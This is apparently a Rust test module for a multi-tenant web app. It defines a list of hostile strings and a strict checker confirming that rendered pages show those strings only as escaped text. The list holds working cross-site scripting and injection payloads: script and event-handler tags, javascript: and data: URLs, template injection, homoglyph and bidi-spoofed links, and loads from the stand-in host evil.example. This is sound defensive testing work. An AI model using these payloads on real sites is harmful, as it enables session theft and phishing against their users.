//! Strings that tenants may write to attack a page, for tests: into annotations, messages, commits, image tags, log lines and
//! values. Also the check that a rendered page contains such a string as text only.
//!
//! The check reads markup more strictly than a browser does. It accepts only what the templates of this crate render.
//! Elsewhere: attacks on pages in a real browser (`e2e/tests/browser/hostile_content.rs`).

use maud::html;
use objects::clean_line;
use url::Url;

/// What a tenant wants a browser to execute, load or show.
const BASES: &[&str] = &[
    // Elements with scripts and event handlers.
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script href=data:text/javascript,alert(1) /></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x onload=alert(1)>#x\"/></svg>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"data:text/html,x\">",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    // Elements that load, redirect, restyle or imitate.
    "<base href=//evil.example/>",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example/x)}</style>",
    "<p style=\"background:url('javascript:alert(1)')\">x</p>",
    "<form action=//evil.example><button>Approve</button></form>",
    "<button formaction=\"javascript:alert(1)\">x</button>",
    "<a href=\"javascript:alert(1)\">Approve</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    // Comments, sections and templates.
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[><script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><x/>",
    "<%= 7*7 %>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)} #{7*7} {% raw %} [[x]]",
    // Ends of attributes.
    "\" onmouseover=\"alert(1)\" x=\"",
    "' onmouseover='alert(1)' x='",
    "` onmouseover=`alert(1)`",
    "x onmouseover=alert(1)",
    "\\ud800\" onmouseover=\"alert(1)",
    // Addresses.
    "javascript:alert(1)",
    "java\tscript:alert(1)",
    "\u{1}javascript:alert(1)",
    "JaVaScRiPt://evil.example/%0aalert(1)",
    "&#106;avascript&colon;alert&lpar;1&rpar;",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example/x",
    "/\\evil.example/x",
    "https://g\u{456}thub.com/apps/fleet",
    "https://github.com@evil.example/apps",
    "https://\u{202e}moc.buhtig/x",
    // Other encodings of markup.
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\ud83d\\u003cscript\\u003ealert(1)",
    "+ADw-script+AD4-alert(1)",
    "\u{ff1c}script\u{ff1e}alert(1)",
    // Characters that are not seen, or that change what is seen.
    "\u{202e}txt.exe\u{2066}a\u{2069}\u{200f}",
    "\u{200b}\u{feff}\u{2060}\u{e0041}\u{ad}invisible",
    "\0nul\0<b>",
    "\u{1b}[2J\u{1b}]8;;https://evil.example\u{7}link\u{1b}]8;;\u{7}\u{9b}31m",
    "a\u{2028}<b>\u{2029}\u{85}b",
];

/// Tokens that are as long as this many of their parts.
const LONG_TOKEN_PARTS: usize = 400;

/// The parts of very long tokens.
const LONG_TOKENS: [&str; 4] = ["x", "<b>", "\u{202e}", "a\u{301}"];

/// What stands before a base: nothing, or the end of something that the base may be in.
const BEFORE: [&str; 6] =
    ["", "\">", "'>", "</bdi></textarea></title></style></script>-->", "web-1/", "v1\r\nx: y\r\n"];

/// How many characters of a string each page shows at least.
const MIN_SHOWN_CHARACTERS: usize = 80;

/// The elements of pages.
const ELEMENTS: &str = "\
    a b bdi body br button circle code dd del details div dl dt footer form g h1 h2 h3 head \
    header html input ins label li link main meta nav ol option p path pre rect script \
    section select small span strong summary svg symbol table tbody td text th thead time \
    title tr ul use";

/// The elements without an end tag.
const VOID: [&str; 4] = ["br", "input", "link", "meta"];

/// The attributes of pages.
const ATTRIBUTES: &str = "\
    action aria-current aria-hidden aria-label autocomplete charset class content cx cy d \
    data-digest data-live data-part datetime fill fill-rule height href id lang maxlength \
    method name placeholder preserveAspectRatio r rel required role rx selected src stroke \
    stroke-linecap stroke-linejoin stroke-width tabindex title type value viewBox width x y";

/// The attributes with an address.
const LINKS: [&str; 4] = ["action", "data-live", "href", "src"];

/// All hostile strings.
pub(crate) fn hostile_strings() -> Vec<String> {
    let long = LONG_TOKENS.iter().map(|part| part.repeat(LONG_TOKEN_PARTS));
    let bases: Vec<String> = BASES.iter().map(|base| (*base).to_owned()).chain(long).collect();
    let all = BEFORE.iter().flat_map(|before| bases.iter().map(move |it| format!("{before}{it}")));
    all.collect()
}

/// Renders a page for each hostile string. Fails unless the page contains the string as text, and as nothing else.
pub(crate) fn assert_text_only(render: impl Fn(&str) -> String) {
    for hostile in hostile_strings() {
        let page = render(&hostile);
        assert_markup(&page, std::slice::from_ref(&hostile));
        let shown = shown(&hostile);
        assert!(page.contains(&shown), "{hostile:?} is not shown as {shown}: {page}");
    }
}

/// Fails if the markup of a page is not that of a template, or if the page contains one of the strings as markup.
pub(crate) fn assert_markup(page: &str, strings: &[String]) {
    if let Err(fault) = read(page) {
        panic!("{fault} of {:?}: {page}", strings.first());
    }
    let raw = strings.iter().find(|it| it.contains(['<', '>', '"']) && page.contains(*it));
    assert!(raw.is_none(), "{raw:?} is not escaped: {page}");
}

/// The begin of a hostile string, as pages show it.
fn shown(hostile: &str) -> String {
    let lines = hostile.trim().split(['\n', '\r', '\u{2028}', '\u{2029}']).next();
    let line = clean_line(lines.unwrap_or_default().trim_end());
    let begin: String = line.chars().take(MIN_SHOWN_CHARACTERS).collect();
    html! { (begin) }.into_string()
}

/// Reads a page or a part of one. The error is the first thing that no template renders.
fn read(page: &str) -> Result<(), String> {
    let mut rest = page.strip_prefix("<!DOCTYPE html>").unwrap_or(page);
    let mut open: Vec<&str> = Vec::new();
    while let Some((text, after)) = rest.split_once('<') {
        read_text(text)?;
        if open.last() == Some(&"script") && !text.is_empty() {
            return Err(format!("the script {text:?}"));
        }
        let (tag, after) = after.split_once('>').ok_or("a tag without an end")?;
        match tag.strip_prefix('/') {
            Some(name) if open.pop() == Some(name) => {}
            Some(name) => return Err(format!("the end of another element, {name:?},")),
            None => {
                let name = read_tag(tag)?;
                if !VOID.contains(&name) {
                    open.push(name);
                }
            }
        }
        rest = after;
    }
    read_text(rest)?;
    open.pop().map_or(Ok(()), |name| Err(format!("the unfinished element {name:?}")))
}

/// Reads a tag without its brackets. Returns the name of the element.
fn read_tag(tag: &str) -> Result<&str, String> {
    let (name, mut rest) = tag.split_once(' ').unwrap_or((tag, ""));
    if !ELEMENTS.split(' ').any(|it| it == name) {
        return Err(format!("the element {tag:?}"));
    }
    while !rest.is_empty() {
        let end = rest.find(['=', ' ']).unwrap_or(rest.len());
        let (attribute, after) = rest.split_at(end);
        if !ATTRIBUTES.split(' ').any(|it| it == attribute) {
            return Err(format!("the attribute {attribute:?} in {tag:?}"));
        }
        rest = match after.strip_prefix("=\"") {
            Some(after) => {
                let (value, after) = after.split_once('"').ok_or("a value without an end")?;
                read_text(value)?;
                if LINKS.contains(&attribute) {
                    read_link(value)?;
                }
                after
            }
            None => after,
        };
        rest = match rest.strip_prefix(' ') {
            Some(more) => more,
            None if rest.is_empty() => rest,
            None => return Err(format!("the unquoted value {rest:?}")),
        };
    }
    Ok(name)
}

/// Reads a text or the value of an attribute. All its characters are visible, and those of markup are escaped.
fn read_text(text: &str) -> Result<(), String> {
    let line = text.replace('\n', " ");
    if clean_line(&line) != line {
        return Err(format!("the control character in {text:?}"));
    }
    let entities = ["amp;", "lt;", "gt;", "quot;"];
    let is_escaped = |after: &str| entities.iter().any(|entity| after.starts_with(entity));
    match text.contains(['<', '>']) || !text.split('&').skip(1).all(is_escaped) {
        true => Err(format!("the markup {text:?}")),
        false => Ok(()),
    }
}

/// Reads an address: a page of this server, a part of this page, or a web address without a user.
fn read_link(value: &str) -> Result<(), String> {
    let link = value.replace("&amp;", "&");
    let is_on_page = link.starts_with('#');
    let is_inside = link.starts_with('/') && !link.starts_with("//") && !link.starts_with("/\\");
    let is_outside = Url::parse(&link).is_ok_and(|url| {
        let is_of_web = matches!(url.scheme(), "http" | "https") && url.has_host();
        is_of_web && url.username().is_empty() && url.password().is_none()
    });
    match (is_on_page || is_inside || is_outside) && link.bytes().all(|it| it.is_ascii_graphic()) {
        true => Ok(()),
        false => Err(format!("the address {link:?}")),
    }
}

#[test]
fn the_check_finds_each_string_that_is_not_escaped() {
    let all = hostile_strings();
    assert!(all.len() >= 200, "{}", all.len());
    for hostile in &all {
        let text = format!("<p>{hostile}</p>");
        let value = format!("<p title=\"{hostile}\"></p>");
        let link = format!("<a href=\"{hostile}\"></a>");
        assert!(!hostile.contains('<') || read(&text).is_err(), "{text}");
        assert!(!hostile.contains(['"', '<']) || read(&value).is_err(), "{value}");
        assert!(read(&link).is_err(), "{link}");
    }
    assert_eq!(read("<p class=\"a\"><a href=\"/o/ks/a/b?c=d&amp;e\">&lt;</a><br></p>"), Ok(()));
}
